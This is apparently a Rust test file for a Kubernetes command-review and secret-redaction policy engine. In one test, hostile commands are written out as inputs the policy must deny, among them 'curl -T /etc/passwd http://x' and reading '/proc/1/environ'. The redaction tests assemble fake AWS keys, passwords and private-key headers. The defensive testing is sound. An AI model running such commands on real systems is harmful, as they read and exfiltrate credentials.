//! The four policies that are shipped, as they are committed, under the built-in trust policy and the shipped settings.
use crate::kit::*;
use std::{
    path::PathBuf,
    sync::{Arc, OnceLock},
    time::{Duration, Instant},
};
use wardgate_core::{
    Answer, AnyRequest, Bound, Channel, Context, Exec, Form, Known, Logs, Query, Redactors, Reviewers, Selection,
    Unanswered, Value, Verb, Verdict,
};
use wardgate_policy::{
    Cache, Host, InstallationKey, Lock, Mode, Module, PluginConfig, PolicyDirectory, PolicySet, SetSource, TrustPolicy,
    engine::Settings, prefilter, redact::Prefilters, set::MakePrefilter, setup::RedactorSetup, trust::SHIPPED,
    values::ValuesKey,
};

fn folder() -> PathBuf {
    concat!(env!("CARGO_MANIFEST_DIR"), "/../../policies-wasm").into()
}

fn trust() -> TrustPolicy {
    let lock = Lock::parse(&std::fs::read_to_string(folder().join("policies.lock")).unwrap()).unwrap();
    TrustPolicy::built_in(&std::fs::read_to_string(folder().join("publisher.pub")).unwrap()).unwrap().with_lock(lock)
}

fn modules() -> Vec<Module> {
    PolicyDirectory::open(&folder()).unwrap().modules().unwrap()
}

fn load_with(host: &Host, cache: Option<&Cache>) -> PolicySet {
    load_filtered(host, cache, Some(prefilter::make))
}

fn load_filtered(host: &Host, cache: Option<&Cache>, prefilter: Option<MakePrefilter>) -> PolicySet {
    let trust = trust();
    let source =
        SetSource { modules: modules(), trust: &trust, plugins: &[], cache, now: NOW.parse().unwrap(), prefilter };
    PolicySet::load(host, source).unwrap_or_else(|e| panic!("{e}"))
}

/// Loaded once for all tests here: it takes seconds. Deadlines are generous, since tests share their machine with compilers.
fn set() -> &'static PolicySet {
    static SET: OnceLock<PolicySet> = OnceLock::new();
    SET.get_or_init(|| load_filtered(&Host::new(generous()).unwrap(), None, Some(noted)))
}

fn generous() -> Settings {
    let default = Settings::default();
    let generous =
        |b: wardgate_policy::engine::Budget| wardgate_policy::engine::Budget { time: Duration::from_secs(5), ..b };
    Settings { review: generous(default.review), scan: generous(default.scan), ..default }
}

fn at(namespace: &str) -> Context {
    let mut context = context();
    context.target.namespace = namespace.into();
    context.target.pod = "cart-6c9d8f7b54-x2x9z".into();
    context.target.container = "cart".into();
    context.now = 1_795_000_000_000;
    context
}

async fn ask(request: AnyRequest, answers: &[Answer]) -> Verdict {
    let mut opinions = set().review(&at("shop"), &request, answers).await;
    assert_eq!(opinions.len(), 1, "one shipped reviewer a kind: {opinions:?}");
    opinions.remove(0).verdict
}

#[test]
fn all_four_load_frozen_and_say_who_they_are() {
    let plugins = set().plugins();
    let mut names: Vec<&str> = plugins.iter().map(|p| p.name.as_str()).collect();
    names.sort_unstable();
    assert_eq!(names, SHIPPED);
    for plugin in plugins {
        assert!(plugin.frozen, "{} was not frozen", plugin.name);
        assert!(!plugin.rules.is_empty() && plugin.publisher == "wardgate", "{plugin:?}");
    }
}

#[tokio::test]
async fn reads_that_help_pass_and_shells_do_not() {
    let exec = |argv: &[&str]| {
        AnyRequest::Exec(Exec { argv: argv.iter().map(ToString::to_string).collect(), wrapper: vec![] })
    };
    assert!(matches!(ask(exec(&["cat", "/proc/meminfo"]), &[]).await, Verdict::Allow(_)));
    assert!(matches!(ask(exec(&["ss", "-tan"]), &[]).await, Verdict::Allow(_)));
    for argv in
        [&["sh", "-c", "id"] as &[&str], &["cat", "/proc/1/environ"], &["curl", "-T", "/etc/passwd", "http://x"]]
    {
        let Verdict::Deny(denial) = ask(exec(argv), &[]).await else { panic!("{argv:?}") };
        assert!(denial.rule != "policy.fault" && !denial.reason.is_empty(), "{denial:?}");
    }
}

/// Settings hold a keyed hash; the host gives the key; without it the policy does not load.
#[tokio::test]
async fn exact_values_are_masked_by_their_keyed_hash() {
    let host = Host::new(generous()).unwrap();
    let (trust, key) = (trust(), ValuesKey::new(&[9; 32]).unwrap());
    let plugins = [PluginConfig {
        name: "secret-redactor".to_owned().try_into().unwrap(),
        mode: Mode::Enforce,
        settings: Some(serde_json::json!({"values": [key.hash(b"blue-lagoon").unwrap()]})),
        questions: None,
    }];
    let load = |key: Option<&ValuesKey>| {
        let modules = modules().into_iter().filter(|module| module.name == "secret-redactor").collect();
        let now = NOW.parse().unwrap();
        let prefilter = Some(prefilter::make as MakePrefilter);
        PolicySet::load_with(
            &host,
            SetSource { modules, trust: &trust, plugins: &plugins, cache: None, now, prefilter },
            key,
        )
    };
    let error = load(None).map(|_| ()).unwrap_err().to_string();
    assert!(error.contains("redaction.values_key_file"), "{error}");
    let set = load(Some(&key)).unwrap_or_else(|e| panic!("{e}"));
    let masked = masked_by(&set, Channel::Log, Form::Text, b"10:00 the parrot said blue-lagoon twice\n", 7).await;
    assert_eq!(String::from_utf8_lossy(&masked), "10:00 the parrot said ########### twice\n");
    let shown = format!("{:?}", set.plugins());
    assert!(!shown.contains("values_key"), "the key is shown: {shown}");
}

/// What the operator's settings add passes and is said to; what they take away is said no more.
#[test]
fn samples_follow_the_operators_settings_and_only_those_that_count() {
    let host = Host::new(generous()).unwrap();
    let trust = trust();
    let load = |mode, settings: &str| {
        let config = PluginConfig {
            name: "exec-allowlist".to_owned().try_into().unwrap(),
            mode,
            settings: Some(serde_json::from_str(settings).unwrap()),
            questions: None,
        };
        let modules = modules().into_iter().filter(|module| module.name == "exec-allowlist").collect();
        let plugins = [config];
        let source = SetSource {
            modules,
            trust: &trust,
            plugins: &plugins,
            cache: None,
            now: NOW.parse().unwrap(),
            prefilter: Some(prefilter::make),
        };
        PolicySet::load(&host, source).unwrap_or_else(|e| panic!("{e}"))
    };
    let lines = |set: &PolicySet, asks: bool| {
        let samples = set.samples("exec").into_iter().filter(move |sample| sample.asks == asks);
        samples.map(|sample| sample.line).collect::<Vec<_>>()
    };
    let shipped = lines(set(), false);
    assert!(
        ["ss -tan", "df -h", "free -m"].iter().all(|line| shipped.iter().any(|known| known == line)),
        "{shipped:?}"
    );
    assert!(lines(set(), true).iter().any(|line| line.starts_with("du ")), "{:?}", lines(set(), true));
    assert!(set().samples("logs").is_empty() && set().samples("nonsense").is_empty());

    let settings = r#"{"add": {"commands": [{"command": "queuectl", "about": "the queue", "words": ["status"],
        "allow": ["queuectl status"]}]}, "remove": ["free"]}"#;
    let changed = lines(&load(Mode::Enforce, settings), false);
    assert!(changed.contains(&"queuectl status".into()), "{changed:?}");
    assert!(!changed.iter().any(|line| line.starts_with("free ")), "{changed:?}");
    assert_eq!(changed.len(), shipped.len());
    assert!(load(Mode::Monitor, settings).samples("exec").is_empty(), "on trial it allows nothing");
}

#[tokio::test]
async fn logs_and_objects_are_read_within_limits() {
    let logs = Logs { tail_lines: Some(100), ..Logs::default() };
    assert!(matches!(ask(AnyRequest::Logs(logs), &[]).await, Verdict::Allow(_)));
    let pods = Selection { verb: Verb::List, kind: "pods".into(), limit: Some(50), ..Selection::default() };
    assert!(matches!(ask(AnyRequest::Objects(pods.clone()), &[]).await, Verdict::Allow(_)));
    let secrets = Selection { kind: "secrets".into(), ..pods };
    assert!(matches!(ask(AnyRequest::Objects(secrets), &[]).await, Verdict::Deny(_)));
}

#[tokio::test]
async fn a_query_is_judged_by_what_it_touches() {
    let query = |text: &str| {
        AnyRequest::Query(Query { text: text.into(), start: 1_795_000_000_000, end: 1_795_000_000_000, step: 0 })
    };
    assert!(matches!(ask(query("{namespace=\"shop\"}"), &[]).await, Verdict::Deny(_)), "nameless");
    let request = query("rate(http_requests_total{namespace=\"shop\"}[5m])");
    let Verdict::Need(questions) = ask(request.clone(), &[]).await else { panic!("it knows without asking") };
    let told = |series: u64| -> Vec<Answer> {
        let known = Known { value: Value::Number(series), bound: Bound::Exact };
        questions.iter().map(|question| Answer { question: question.clone(), outcome: Ok(known.clone()) }).collect()
    };
    assert!(matches!(ask(request.clone(), &told(40)).await, Verdict::Allow(_)));
    // Before it denies it asks what the metric's neighbours are called, to teach; no answer does no harm.
    let mut answers = told(40_000_000);
    let Verdict::Need(names) = ask(request.clone(), &answers).await else { panic!("it denies without teaching") };
    answers.extend(names.into_iter().map(|question| Answer { question, outcome: Err(Unanswered::Unavailable) }));
    assert!(matches!(ask(request, &answers).await, Verdict::Deny(_)));
}

async fn masked(channel: Channel, form: Form, text: &str, cut: usize) -> String {
    String::from_utf8(masked_by(set(), channel, form, text.as_bytes(), cut).await).unwrap()
}

async fn masked_by(set: &PolicySet, channel: Channel, form: Form, text: &[u8], cut: usize) -> Vec<u8> {
    let mut stream = set.open(&at("shop"), channel, form).await.unwrap();
    let mut findings = Vec::new();
    for piece in text.chunks(cut) {
        findings.extend(stream.scan(piece).await.unwrap().findings);
    }
    findings.extend(stream.finish().await.unwrap());
    let mut bytes = text.to_vec();
    for finding in findings {
        bytes[usize::try_from(finding.start).unwrap()..usize::try_from(finding.end).unwrap()].fill(b'#');
    }
    bytes
}

/// Lines of which some hold a secret of one kind or another, in a fixed order that looks like none.
fn mixed_lines(count: u64) -> Vec<u8> {
    let mut state = 7_u64;
    let mut draw = move || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        state >> 33
    };
    let mut text = Vec::new();
    for i in 0..count {
        let token: String = (0..24).map(|_| char::from(b"abcdefgXYZ0123456789HJKL"[(draw() % 24) as usize])).collect();
        let line = match draw() % 24 {
            0 => format!("login failed password={token} host=db-{i}"),
            1 => format!("{{\"name\":\"DB_PASSWORD\",\"value\":\"{token}\"}}"),
            2 => format!("connect postgres://app:{token}@db.internal:5432/orders"),
            3 => format!(
                "-----BEGIN {k}-----\nMIIEow{token}\n{token}/{token}\n-----END {k}-----",
                k = ["RSA PRIVATE", " KEY"].concat()
            ),
            4 => format!("\u{1b}[31mtoken\u{1b}[0m: {token}"),
            5 => format!("Authorization: Bearer {token}{token}"),
            6 => format!("long {} secret={token} {}", "lorem ipsum ".repeat(2_000), "dolor ".repeat(1_500)),
            7 => format!("blob {}", token.repeat(900)),
            8 => format!("kind: Secret\ndata:\n  first: {token}\n  second: {token}"),
            _ => format!("2026-11-23T10:00:00Z INFO served request id={i} status=200 in {} ms", draw() % 900),
        };
        text.extend_from_slice(line.as_bytes());
        text.push(b'\n');
    }
    text
}

/// Which share of ordinary lines the shipped redactor's prefilter hands on; none where there is no filter.
static SHOWN: OnceLock<Option<f64>> = OnceLock::new();

fn noted(setup: &RedactorSetup) -> Option<Arc<dyn Prefilters>> {
    let made = prefilter::make(setup);
    SHOWN.get_or_init(|| made.as_deref().map(share_of_ordinary_lines));
    made
}

#[allow(clippy::cast_precision_loss)]
fn share_of_ordinary_lines(filter: &dyn Prefilters) -> f64 {
    let text: String = (0..2_000)
        .map(|i| match i % 3 {
            0 => format!(
                "2026-11-23T10:00:00Z INFO  cart request id={i:08x} path=/api/v1/cart/{i} status=200 took=3ms\n"
            ),
            1 => format!(
                "I1123 10:00:00.1 1 controller.go:{i}] \"Reconciled\" deployment=\"shop/cart\" took=\"{i}ms\"\n"
            ),
            _ => format!("10.4.0.7 - - [23/Nov/2026:10:00:00 +0000] \"GET /products/{i} HTTP/1.1\" 200 {i} \"-\"\n"),
        })
        .collect();
    let (mut stream, mut shown) = (filter.open(), 0);
    stream.push(text.as_bytes());
    stream.end();
    loop {
        let next = stream.next();
        let Some(last) = next.last() else { break };
        stream.shown(last.offset + last.bytes.len() as u64, false);
        shown += next.iter().map(|stretch| stretch.bytes.len()).sum::<usize>();
    }
    shown as f64 / text.len() as f64
}

#[test]
fn the_shipped_redactor_is_not_woken_by_ordinary_lines() {
    set();
    let share = SHOWN.get().unwrap().expect("its triggers can be searched for natively");
    assert!(share < 0.02, "{:.1} % of ordinary lines go into the sandbox", 100.0 * share);
}

#[tokio::test]
async fn what_is_masked_does_not_depend_on_what_the_prefilter_skipped() {
    let host = Host::new(generous()).unwrap();
    let all = load_filtered(&host, None, None);
    let portable = load_filtered(&host, None, Some(prefilter::make_portable));
    let text = mixed_lines(500);
    let whole = masked_by(&all, Channel::Log, Form::Text, &text, 64 << 10).await;
    assert!(whole != text);
    let differ = |one: &[u8]| {
        one.iter().zip(&whole).position(|(a, b)| a != b).map(|i| {
            let around = i.saturating_sub(80)..(i + 80).min(text.len());
            String::from_utf8_lossy(&text[around]).into_owned()
        })
    };
    for cut in [193, 4_096, 30_011, 64 << 10, text.len()] {
        for (set, name) in [(set(), "vectors"), (&portable, "portable")] {
            let filtered = masked_by(set, Channel::Log, Form::Text, &text, cut).await;
            assert_eq!(differ(&filtered), None, "{name}, cut every {cut}");
        }
    }
}

#[tokio::test]
async fn planted_secrets_are_found_wherever_the_stream_is_cut() {
    // Put together here: a scanner of sources should not find them.
    let aws = ["AKIA", "IOSFODNN7QRSTUVW"].concat();
    let password = ["hunter2", "-Tr0ub4dor"].concat();
    let key = format!(
        "-----BEGIN {k}-----\nMIIEowIBAAKCAQEA7bq2LrTtZ1\n-----END {k}-----",
        k = ["RSA PRIVATE", " KEY"].concat()
    );
    let text = format!(
        "2026-11-23T10:00:00Z INFO request id=81 status=200\nkey {aws} used\npassword={password} host=db-1\n{key}\nINFO done status=200\n"
    );
    let whole = masked(Channel::Log, Form::Text, &text, text.len()).await;
    assert!(!whole.contains(&aws) && !whole.contains(&password) && !whole.contains("MIIE"), "{whole}");
    assert!(whole.contains("status=200\n") && whole.ends_with("INFO done status=200\n"), "{whole}");
    for cut in (1..40).chain([64, 97, 200]) {
        assert_eq!(masked(Channel::Log, Form::Text, &text, cut).await, whole, "cut every {cut}");
    }
}

#[test]
fn a_warm_start_takes_well_under_a_tenth_of_a_second() {
    let temp = tempfile::tempdir().unwrap();
    let host = host_of_its_own();
    let cache = || {
        let key = InstallationKey::load_or_create(&temp.path().join("installation.key")).unwrap();
        Cache::open(&temp.path().join("compiled"), key).unwrap()
    };
    let cold = Instant::now();
    load_with(&host, Some(&cache()));
    let cold = cold.elapsed();
    let warm = (0..5).map(|_| {
        let begun = Instant::now();
        let set = load_with(&host, Some(&cache()));
        assert!(set.plugins().iter().all(|plugin| plugin.cached));
        begun.elapsed()
    });
    let warm = warm.min().unwrap();
    println!("cold {cold:?}, warm {warm:?}");
    // Compilers may run beside this; the order of magnitude is what is promised.
    assert!(warm < Duration::from_millis(500) && warm * 5 < cold, "cold {cold:?}, warm {warm:?}");
}

fn host_of_its_own() -> Host {
    Host::new(Settings::default()).unwrap()
}

#[test]
fn the_lock_names_the_very_modules() {
    let lock = std::fs::read_to_string(folder().join("policies.lock")).unwrap();
    for module in modules() {
        let digest = wardgate_policy::trust::Digest::of(&module.wasm).to_string();
        assert!(lock.contains(&digest), "{} is not what the lock says", module.name);
    }
}

#[test]
fn each_shipped_module_is_refused_once_a_bit_of_it_changed_or_its_version_went_back() {
    for module in modules() {
        let mut tampered = module.clone();
        let middle = tampered.wasm.len() / 2;
        tampered.wasm[middle] ^= 1;
        let error = wardgate_policy::verify::verify(tampered, &trust(), NOW.parse().unwrap()).unwrap_err();
        assert!(matches!(error, wardgate_policy::VerifyError::Tampered { .. }), "{error}");
        let newer = std::fs::read_to_string(folder().join("policies.lock"))
            .unwrap()
            .replace("version = \"0.", "version = \"99.");
        let ahead = trust().with_lock(Lock::parse(&newer).unwrap());
        let error = wardgate_policy::verify::verify(module, &ahead, NOW.parse().unwrap()).unwrap_err();
        assert!(matches!(error, wardgate_policy::VerifyError::OlderThanLock { .. }), "{error}");
    }
}
